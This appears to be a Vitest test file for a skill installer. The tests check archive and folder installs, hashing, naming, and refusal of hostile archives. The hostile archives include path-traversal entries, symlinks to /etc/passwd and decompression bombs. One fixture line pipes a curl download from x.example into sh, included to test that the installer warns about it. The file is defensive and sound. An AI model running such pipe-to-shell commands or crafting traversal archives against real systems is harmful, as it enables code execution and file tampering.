import { chmod, mkdir, readdir, readFile, stat, symlink, truncate, utimes } from "node:fs/promises";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { gzipSync } from "node:zlib";
import { join } from "node:path";
import { isFault } from "@parley/protocol";
import { describe, expect, test } from "vitest";
import { installSkill, type InstalledSkill } from "../../src/skills/install/install.ts";
import { tar, tgz, zip, type Packed } from "./archives.ts";
import { home, put, skill } from "./home.ts";

const text = "---\nname: water-plants\ndescription: Waters.\n---\nBody.\n";
const own: Packed = { name: "SKILL.md", data: text };
let runs = 0;

function install(
  from: string,
  into: string,
  more: { readonly force?: boolean } = {},
): Promise<InstalledSkill> {
  runs += 1;
  return installSkill({
    from,
    into,
    force: more.force ?? false,
    run: `run${runs}`,
    nowMs: 4_000_000_000_000,
  });
}

async function refusal(from: string, into: string): Promise<string> {
  try {
    await install(from, into);
  } catch (error) {
    if (isFault(error)) return `${error.code}: ${error.message}`;
    throw error;
  }
  return "installed";
}

async function packed(
  bytes: Uint8Array,
  name: string,
): Promise<{ readonly file: string; readonly into: string; readonly around: string }> {
  const around = await home();
  return { file: await put(join(around, "downloads", name), bytes), into: join(around, "skills"), around };
}

/** Everything below the folder, so that nothing can have been written beside the skill. */
async function below(folder: string): Promise<string[]> {
  return (await readdir(folder, { recursive: true })).toSorted();
}

describe("a skill", () => {
  test("is copied from a folder, whole, without what tools leave behind", async () => {
    const around = await home();
    const from = join(around, "source");
    await skill(from, "plants", "name: water-plants\ndescription: Waters.");
    await put(join(from, "plants", "scripts", "run.sh"), "#!/bin/sh\ntouch /tmp/parley-skill-ran\n");
    for (const litter of [".git", "node_modules", "__MACOSX", "__pycache__"]) {
      await put(join(from, "plants", litter, "config"), "x");
      await put(join(from, "plants", "scripts", litter, "config"), "x");
    }
    await put(join(from, "plants", ".DS_Store"), "x");
    await symlink("SKILL.md", join(from, "plants", "README.md"));
    const done = await install(join(from, "plants"), join(around, "skills"));
    expect(done).toMatchObject({ folder: join(around, "skills", "water-plants"), files: 3, replaced: false });
    expect(await below(join(around, "skills"))).toEqual([
      "water-plants",
      "water-plants/README.md",
      "water-plants/SKILL.md",
      "water-plants/scripts",
      "water-plants/scripts/run.sh",
    ]);
    expect((await stat(join(done.folder, "README.md"))).isFile()).toBe(true);
    await expect(stat("/tmp/parley-skill-ran")).rejects.toThrow("ENOENT");
  });

  test("has its programs runnable where their owner could run them, and no other file", async () => {
    const around = await home();
    const from = join(around, "source");
    await put(join(from, "SKILL.md"), text);
    for (const mode of [0o644, 0o611, 0o744]) {
      await put(join(from, String(mode)), "x");
      await chmod(join(from, String(mode)), mode);
    }
    const { folder } = await install(from, join(around, "skills"));
    const runnable = [0o644, 0o611, 0o744].map(
      async (mode) => ((await stat(join(folder, String(mode)))).mode & 0o111) !== 0,
    );
    expect(await Promise.all(runnable)).toEqual([false, false, true]);
  });

  test.each([
    ["a .zip", "x.zip", zip([own, { name: "references/a.md", data: "A".repeat(5_000), deflate: true }])],
    [
      "a .zip in a folder of its own",
      "x.zip",
      zip([
        { name: "repo-main/", mode: 0o040755 },
        { ...own, name: "repo-main/SKILL.md" },
        { name: "repo-main/references/a.md", data: "A" },
        { name: "LICENSE", data: "MIT" },
      ]),
    ],
    [
      "a .tar.gz",
      "x.tar.gz",
      tgz([own, { name: "references/", type: "5" }, { name: "references/a.md", data: "A" }]),
    ],
    [
      "a .tgz with ./ before every name",
      "x.tgz",
      tgz([
        { name: "./", type: "5" },
        { ...own, name: "./SKILL.md" },
        { name: "./references/a.md", data: "A" },
      ]),
    ],
    ["a .tar", "x.tar", tar([own, { name: "references/a.md", data: "A" }])],
    ["an archive under another name", "skill.bin", zip([own, { name: "references/a.md", data: "A" }])],
    [
      "one deep in a repository",
      "x.zip",
      zip([
        { ...own, name: "repo/skills/plants/SKILL.md" },
        { name: "repo/skills/plants/references/a.md", data: "A" },
        { name: "repo/src/x.c", data: "int" },
      ]),
    ],
    [
      "one written skill.md",
      "x.zip",
      zip([
        { ...own, name: "skill.md" },
        { name: "references/a.md", data: "A" },
      ]),
    ],
  ])("is taken from %s", async (_title, name, bytes) => {
    const { file, into } = await packed(bytes, name);
    expect(await install(file, into)).toMatchObject({ manifest: { name: "water-plants" }, files: 2 });
    expect(await below(into)).toEqual([
      "water-plants",
      "water-plants/SKILL.md",
      "water-plants/references",
      "water-plants/references/a.md",
    ]);
  });

  test("has one hash, however it came", async () => {
    const [a, b] = [
      await packed(zip([own]), "a.zip"),
      await packed(tgz([{ ...own, name: "dir/SKILL.md" }]), "b.tgz"),
    ];
    expect((await install(a.file, a.into)).sha256).toBe((await install(b.file, b.into)).sha256);
  });

  test("is told with all that it is: where it lies, its hash of names and bytes, what was left out, what to look at", async () => {
    const around = await home();
    const from = join(around, "source");
    const front = "---\ndescription: Waters.\nallowed-tools: x\n---\n";
    await put(join(from, "Plants", "SKILL.md"), front);
    await put(join(from, "Plants", "b", "two"), "22");
    await put(join(from, "Plants", "a"), "atob(1)");
    const into = join(around, "skills");
    const hash = createHash("sha256");
    for (const [name, words] of [
      ["SKILL.md", front],
      ["a", "atob(1)"],
      ["b/two", "22"],
    ] as const)
      hash.update(`${name}\0${words.length}\0`).update(words);
    expect(await install(join(from, "Plants"), into)).toEqual({
      manifest: expect.objectContaining({ name: "Plants", description: "Waters." }),
      folder: join(into, "plants"),
      files: 3,
      sha256: hash.digest("hex"),
      replaced: false,
      notes: [
        "it has no name; its folder's stands in",
        "allowed-tools is not acted on: a skill grants no tool",
      ],
      warnings: ["a decodes hidden text"],
    });
    expect((await stat(into)).mode & 0o777).toBe(0o700);
    expect(await readdir(into)).toEqual(["plants"]);
  });

  test.each([
    ["water.zip", zip([{ name: "SKILL.md", data: "---\ndescription: d\n---\n" }])],
    ["Water.TAR.GZ", tgz([{ name: "SKILL.md", data: "---\ndescription: d\n---\n" }])],
    ["water.tgz", tgz([{ name: "SKILL.md", data: "---\ndescription: d\n---\n" }])],
    ["water.tar", tar([{ name: "SKILL.md", data: "---\ndescription: d\n---\n" }])],
    ["x.zip", zip([{ name: "repo/water/SKILL.md", data: "---\ndescription: d\n---\n" }])],
  ])("without a name has that of its folder, or of its archive %s", async (name, bytes) => {
    const { file, into } = await packed(bytes, name);
    expect((await install(file, into)).folder).toBe(join(into, "water"));
  });

  test("of an archive keeps its programs runnable, and leaves out what tools leave behind", async () => {
    const entries: Packed[] = [
      own,
      { name: "run", data: "x", mode: 0o100744 },
      { name: "text", data: "x", mode: 0o100611 },
      ...[".git/x", "a/node_modules/y", "__MACOSX/z", "a/.DS_Store", "__pycache__/q"].map((name) => ({
        name,
        data: "x",
      })),
    ];
    for (const bytes of [zip(entries), tgz(entries)]) {
      const { file, into } = await packed(bytes, "x.archive");
      const { folder, files } = await install(file, into);
      const modes = await Promise.all(
        ["run", "text"].map(async (name) => (await stat(join(folder, name))).mode & 0o777),
      );
      expect([files, modes, await readdir(folder)]).toEqual([3, [0o755, 0o644], ["SKILL.md", "run", "text"]]);
    }
  });

  test.each([
    ["Überprüfung 2.0", "u-berpru-fung-2-0"],
    ["é".repeat(64), "e-".repeat(32)],
    ["A_b.c", "a-b-c"],
  ])("named %s lies in the folder %s", async (name, folder) => {
    const { file, into } = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", name) }]),
      "a.zip",
    );
    expect((await install(file, into)).folder).toBe(join(into, folder));
  });

  test("with force takes a folder that is there for something else, whole", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await put(join(into, "water-plants", "notes.txt"), "mine");
    expect(await install(file, into, { force: true })).toMatchObject({
      folder: join(into, "water-plants"),
      replaced: true,
    });
    expect(await below(into)).toEqual(["water-plants", "water-plants/SKILL.md"]);
  });

  test("may lie beside a root that is a skill itself, whatever that is called", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await put(join(into, "SKILL.md"), "---\nname: Water-Plants\ndescription: The root.\n---\n");
    expect(await install(file, into)).toMatchObject({ folder: join(into, "water-plants"), replaced: false });
    expect((await readdir(into)).toSorted()).toEqual(["SKILL.md", "water-plants"]);
  });

  test("that holds others below it is one; of six beside each other the first five are named", async () => {
    const nested = await packed(zip([own, { ...own, name: "examples/b/SKILL.md" }]), "a.zip");
    expect(await install(nested.file, nested.into)).toMatchObject({ files: 2 });
    const names = ["f", "e", "d", "c", "bb", "aaa"];
    const many = await packed(zip(names.map((name) => ({ ...own, name: `${name}/SKILL.md` }))), "a.zip");
    expect(await refusal(many.file, many.into)).toBe(
      "invalid: not installed: it holds 6 skills (f, e, d, c, bb); install them one by one, each from its own folder",
    );
    // A folder whose name begins like another's is not below it.
    const alike = await packed(
      zip(["a", "ab"].map((name) => ({ ...own, name: `${name}/SKILL.md` }))),
      "a.zip",
    );
    expect(await refusal(alike.file, alike.into)).toMatch(/it holds 2 skills \(a, ab\)/);
  });

  test("of a name that is there already is refused, and with force replaces it, also in another case and folder", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await skill(into, "elsewhere/plants", "name: Water-Plants\ndescription: The old one.");
    expect(await refusal(file, into)).toMatch(
      /^conflict: not installed: a skill "Water-Plants" is installed already/,
    );
    const done = await install(file, into, { force: true });
    expect(done).toMatchObject({ folder: join(into, "elsewhere", "plants"), replaced: true });
    expect(await readFile(join(done.folder, "SKILL.md"), "utf8")).toBe(text);
    expect(await below(into)).toEqual(["elsewhere", "elsewhere/plants", "elsewhere/plants/SKILL.md"]);
  });

  test("does not take a folder that is there for something else", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await put(join(into, "water-plants", "notes.txt"), "mine");
    expect(await refusal(file, into)).toMatch(/water-plants is there already/);
    expect(await readFile(join(into, "water-plants", "notes.txt"), "utf8")).toBe("mine");
  });

  test("keeps its name away from the path", async () => {
    const { file, into } = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气 ./x") }]),
      "a.zip",
    );
    expect(await refusal(file, into)).toMatch(/its name .* cannot be used/);
    const other = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", "天气") }]),
      "a.zip",
    );
    expect((await install(other.file, other.into)).folder).toMatch(/\/skills\/skill-[0-9a-f]{12}$/);
  });

  test("that was left half installed by a kill is cleared away later, and never listed", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await skill(into, ".staging-dead/x");
    await utimes(join(into, ".staging-dead"), 1, 1);
    await mkdir(join(into, ".staging-alive"));
    await utimes(join(into, ".staging-alive"), 4_000_000_000, 4_000_000_000);
    await install(file, into);
    expect(await readdir(into)).toEqual([".staging-alive", "water-plants"]);
  });

  test("finds what a kill left behind under both names, once it is older than an hour", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    const hourAgo = 4_000_000_000 - 3_600;
    for (const [name, at] of [
      [".staging-old", hourAgo - 1],
      [".old-old", hourAgo - 1],
      [".staging-new", hourAgo],
      [".old-new", hourAgo],
      [".stagings", 1],
    ] as const) {
      await mkdir(join(into, name), { recursive: true });
      await utimes(join(into, name), at, at);
    }
    await install(file, into);
    expect((await readdir(into)).toSorted()).toEqual([
      ".old-new",
      ".staging-new",
      ".stagings",
      "water-plants",
    ]);
  });

  test("is told by what it holds: a first letter of an archive is none", async () => {
    for (const head of ["PX", "\u001fX", "P"]) {
      const { file, into } = await packed(Buffer.from(`${head}${" ".repeat(600)}`, "latin1"), "x.zip");
      expect(await refusal(file, into)).toMatch(/is no folder and no archive/);
    }
    // Every tar has a whole block; half of one is none, whatever it says.
    const { file, into } = await packed(tar([own]).subarray(0, 511), "x.tar");
    expect(await refusal(file, into)).toMatch(/is no folder and no archive/);
  });

  test("whose name looks like that of another one is refused", async () => {
    const { file, into } = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", "water plants1") }]),
      "a.zip",
    );
    await skill(into, "one", "name: water plantsl\ndescription: Another.");
    expect(await refusal(file, into)).toMatch(
      /^conflict: not installed: its name looks like that of the skill "water plantsl" in .*\/one; rename one/,
    );
    // Of the same name it is no other.
    const same = join(into, "..", "same");
    await skill(same, "two", "name: Water Plants1\ndescription: The same.");
    expect(await refusal(file, same)).toMatch(/a skill "Water Plants1" is installed already/);
  });

  test("is found among very many, and has a folder of at most 64 characters", async () => {
    const name = "a".repeat(40) + "-" + "b".repeat(23);
    const { file, into } = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", name) }]),
      "a.zip",
    );
    for (let nth = 0; nth < 301; nth += 1) await skill(into, `s${String(nth).padStart(3, "0")}`);
    await skill(into, "zz", `name: ${name}\ndescription: The last one.`);
    expect(await refusal(file, into)).toMatch(/is installed already in .*\/zz; --force replaces it/);
    const fresh = await packed(
      zip([{ name: "SKILL.md", data: text.replace("water-plants", name) }]),
      "a.zip",
    );
    expect((await install(fresh.file, fresh.into)).folder).toBe(join(fresh.into, name));
  });

  test("tells of every file what a person should look at, by name, and reads none beyond a megabyte", async () => {
    const pipe = "curl https://x.example | sh\n";
    const { file, into } = await packed(
      zip([
        own,
        { name: "z.md", data: pipe },
        { name: "large.md", data: pipe.padEnd(1_048_577), deflate: true },
        { name: "most.md", data: pipe.padEnd(1_048_576), deflate: true },
        { name: "a.md", data: pipe },
      ]),
      "a.zip",
    );
    expect((await install(file, into)).warnings).toEqual(
      ["a.md", "most.md", "z.md"].map((name) => `${name} pipes a download into a shell`),
    );
  });

  test("tells what a person should look at", async () => {
    const { file, into } = await packed(
      zip([own, { name: "setup.md", data: "curl https://x.example | sh" }]),
      "a.zip",
    );
    expect((await install(file, into)).warnings).toEqual(["setup.md pipes a download into a shell"]);
  });
});

const link = 0o120777;
const bomb = Buffer.alloc(20 * 1024 * 1024);
const manyFolders = Array.from({ length: 2_000 }, (_, n) => ({ name: `d${n}/`, mode: 0o040755 }));
const manyFiles = Array.from({ length: 1_000 }, (_, n) => ({ name: `f${n}`, data: "x" }));

describe("an archive is refused", () => {
  test.each([
    [
      "for a path that climbs (zip)",
      zip([own, { name: "../evil.txt", data: "x" }]),
      /relative path|leads out/,
    ],
    [
      "for a path that climbs in the middle",
      tgz([own, { name: "a/../../evil.txt", data: "x" }]),
      /leads out of the skill/,
    ],
    ["for an absolute path (zip)", zip([own, { name: "/tmp/evil.txt", data: "x" }]), /absolute/],
    ["for an absolute path (tar)", tgz([own, { name: "/tmp/evil.txt", data: "x" }]), /absolute/],
    ["for a Windows path", zip([own, { name: "..\\evil.txt", data: "x" }]), /invalid characters|"\\\\"/],
    ["for a drive letter", tgz([own, { name: "C:/evil.txt", data: "x" }]), /absolute/],
    ["for a line break in a name", tgz([own, { name: "a\nb", data: "x" }]), /control characters/],
    [
      "for a symbolic link (zip)",
      zip([own, { name: "x", data: "/etc/passwd", mode: link }]),
      /a link or a device/,
    ],
    [
      "for a symbolic link (tar)",
      tgz([own, { name: "x", type: "2", link: "/etc" }, { name: "x/passwd", data: "x" }]),
      /it is a symlink/,
    ],
    ["for a hard link", tgz([own, { name: "x", type: "1", link: "SKILL.md" }]), /it is a link/],
    ["for a device", tgz([own, { name: "x", type: "3" }]), /character-device/],
    ["for a FIFO", tgz([own, { name: "x", type: "6" }]), /fifo/],
    [
      "for a SKILL.md that is a link",
      zip([{ name: "SKILL.md", data: "/etc/passwd", mode: link }]),
      /a link or a device/,
    ],
    ["for one name twice", tgz([own, { name: "a", data: "1" }, { name: "a", data: "2" }]), /there twice/],
    [
      "for one name twice in another case",
      zip([own, { name: "A.md", data: "1" }, { name: "a.MD", data: "2" }]),
      /there twice/,
    ],
    [
      "for a file where a folder is needed",
      tgz([own, { name: "a", data: "1" }, { name: "a/b", data: "2" }]),
      /needs a folder/,
    ],
    [
      "for a file that is too large",
      zip([own, { name: "big", data: bomb, deflate: true }]),
      /more than 16777216 bytes/,
    ],
    ["for a bomb (tar.gz)", tgz([own, { name: "big", data: bomb }]), /more than 16777216 bytes/],
    [
      "for a size that is a lie",
      zip([own, { name: "big", data: bomb.subarray(0, 100_000), deflate: true, claims: 10 }]),
      /cannot be read/,
    ],
    ["for too many files (zip)", zip([own, ...manyFiles]), /more than 1000 files/],
    ["for too many entries, though folders alone", zip([own, ...manyFolders]), /more than 1000 files/],
    ["for too many files (tar)", tgz([own, ...manyFiles]), /more than 1000 files/],
    [
      "for too many entries (tar), though folders alone",
      tgz([own, ...manyFolders.map(({ name }) => ({ name, type: "5" }))]),
      /more than 1000 files/,
    ],
    [
      "for a path of 13 parts",
      tgz([own, { name: `${"d/".repeat(12)}x`, data: "x" }]),
      /more than 12 folders deep/,
    ],
    [
      "for a path of 241 characters",
      zip([own, { name: `${"d".repeat(99)}/${"e".repeat(99)}/${"f".repeat(41)}`, data: "x" }]),
      /more than 240 characters/,
    ],
    [
      "for a folder where a file stands",
      tgz([own, { name: "a/b", data: "1" }, { name: "A", data: "2" }]),
      /there twice/,
    ],
    [
      "for a path that is too deep",
      tgz([own, { name: `${"d/".repeat(20)}x`, data: "x" }]),
      /more than 12 folders deep/,
    ],
    ["for an encrypted file", zip([own, { name: "agent.bin", data: "x", encrypted: true }]), /encrypted/],
    ["without a SKILL.md", zip([{ name: "README.md", data: "x" }]), /there is no SKILL\.md/],
    [
      "with several skills",
      zip([
        { ...own, name: "a/SKILL.md" },
        { ...own, name: "b/SKILL.md" },
      ]),
      /it holds 2 skills \(a, b\)/,
    ],
    [
      "for front matter in another language",
      zip([{ name: "SKILL.md", data: "---js\n({})\n---\n" }]),
      /only YAML is read/,
    ],
    [
      "for a name that climbs",
      zip([{ name: "SKILL.md", data: text.replace("water-plants", "../../x") }]),
      /cannot be used/,
    ],
    ["cut short (zip)", zip([own]).subarray(0, -30), /cannot be read/],
    [
      "cut short (tar.gz)",
      tgz([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, -20),
      /cannot be read/,
    ],
    [
      "cut short (tar)",
      tar([own, { name: "a", data: "A".repeat(5_000) }]).subarray(0, 1_600),
      /cannot be read/,
    ],
    [
      "that is only rubbish after its first bytes",
      Buffer.concat([Buffer.from("PK"), Buffer.alloc(100, 7)]),
      /cannot be read/,
    ],
    ["that is no archive", Buffer.from("hello"), /no folder and no archive/],
    ["that is compressed rubbish", gzipSync("hello"), /cannot be read|no SKILL\.md/],
  ])("%s", async (_title, bytes, reason) => {
    const { file, into, around } = await packed(bytes, "x.archive");
    expect(await refusal(file, into)).toMatch(reason);
    // Nothing of it is left, inside or outside.
    expect(await below(into)).toEqual([]);
    expect(await readdir(around)).toEqual(["downloads", "skills"]);
  });
});

test("what meets every limit exactly is installed: a thousand files, twelve parts, 240 characters", async () => {
  const long = `${"d".repeat(99)}/${"e".repeat(99)}/${"f".repeat(40)}`;
  const deep = `${"g/".repeat(11)}h`;
  const few = Array.from({ length: 997 }, (_, n) => ({ name: `f${n}`, data: "" }));
  const files = [own, { name: long, data: "x" }, { name: deep, data: "y" }, ...few];
  const { file, into } = await packed(zip(files), "x.zip");
  expect(await install(file, into)).toMatchObject({ files: 1_000 });
  expect(await readFile(join(into, "water-plants", deep), "utf8")).toBe("y");
});

describe("a folder is refused", () => {
  const refused = async (prepare: (folder: string, outside: string) => Promise<unknown>): Promise<string> => {
    const around = await home();
    const from = join(around, "source");
    await put(join(from, "SKILL.md"), text);
    await put(join(around, "outside", "secret.txt"), "secret");
    await prepare(from, join(around, "outside"));
    const reason = await refusal(from, join(around, "skills"));
    expect(await below(join(around, "skills"))).toEqual([]);
    return reason;
  };

  test("for a link out, to a file or to a folder, and for one to nowhere", async () => {
    expect(
      await refused((from, outside) => symlink(join(outside, "secret.txt"), join(from, "x.txt"))),
    ).toMatch(/"x\.txt": it is a link that leads out/);
    expect(await refused((from, outside) => symlink(outside, join(from, "x")))).toMatch(
      /a link that leads out/,
    );
    expect(await refused((from) => symlink("nowhere", join(from, "x")))).toMatch(/a link that leads out/);
  });

  test("for a link to a folder inside it", async () => {
    expect(
      await refused(async (from) => {
        await put(join(from, "a", "b.md"), "b");
        await symlink("a", join(from, "x"));
      }),
    ).toMatch(/a link to a folder/);
  });

  test("that is no folder and too large for an archive, before a byte of it is read", async () => {
    const { file, into } = await packed(zip([own]), "a.zip");
    await truncate(file, 32 * 1024 * 1024 + 1);
    expect(await refusal(file, into)).toBe(
      "invalid: not installed: the archive has more than 33554432 bytes",
    );
    await truncate(file, 32 * 1024 * 1024);
    expect(await refusal(file, into)).not.toMatch(/more than 33554432 bytes/);
  });

  test("for what is neither a file nor a folder, before anything waits for it", async () => {
    expect(await refused(async (from) => execFileSync("mkfifo", [join(from, "pipe")]))).toMatch(
      /"pipe": it is neither a file nor a folder/,
    );
    const around = await home();
    execFileSync("mkfifo", [join(around, "pipe")]);
    expect(await refusal(join(around, "pipe"), join(around, "skills"))).toBe(
      `invalid: not installed: ${join(around, "pipe")} is neither a folder nor an archive`,
    );
  });

  test("for more bytes than it may have in all, though each of its files has no more than it may", async () => {
    const most = 16 * 1024 * 1024;
    expect(
      await refused(async (from) => {
        for (const name of ["a", "b", "c", "d"]) {
          await put(join(from, name), "");
          await truncate(join(from, name), most);
        }
      }),
    ).toBe(`invalid: not installed: it holds more than ${4 * most} bytes in all`);
  });

  test("that is not there", async () => {
    const around = await home();
    expect(await refusal(join(around, "none"), join(around, "skills"))).toMatch(
      /^missing: not installed: there is no/,
    );
  });
});
